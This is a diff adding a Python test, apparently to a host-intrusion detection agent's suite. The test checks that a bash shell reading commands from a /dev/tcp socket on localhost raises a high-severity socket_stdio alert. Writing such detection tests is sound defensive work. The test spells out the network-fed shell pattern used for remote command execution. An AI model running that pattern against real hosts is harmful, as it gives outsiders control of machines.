@@ -216,3 +216,22 @@ def test_everyday_shells_and_sockets_are_quiet(agent: Agent, sshd: Sshd) -> None
     ]
     assert noisy == []
     assert sshd.port  # the sshd really served: the client commands above returned
+
+
+def test_a_shell_reading_its_commands_from_a_connection_is_high(agent: Agent) -> None:
+    """`bash < /dev/tcp/h/p` (a script fed by the network, output kept local) is socket_stdio, high, on the inner
+    bash; the outer bash's own redirection is no alert."""
+    listener = Listener(greeting=b"id\n")
+    run = UnderSh(["bash", "--norc", "-c", f"bash --norc < /dev/tcp/127.0.0.1/{listener.port}; true"])
+    try:
+        found = agent.wait_alert(
+            lambda a: a["rule"] == SOCKET_STDIO and run.pid in [p["pid"] for p in a["ancestors"]], 8
+        )
+        assert found is not None, agent.log_path.read_text()[-3000:]
+        alert = found[0]
+        assert alert["severity"] == "high" and alert["evidence"]["how"] == "exec"
+        assert alert["process"]["comm"] == "bash" and alert["ancestors"][0]["pid"] == run.pid
+        assert not [a for a in agent.alerts() if a["rule"] == SOCKET_STDIO and a["process"]["pid"] == run.pid]
+    finally:
+        listener.close()
+        run.stop()
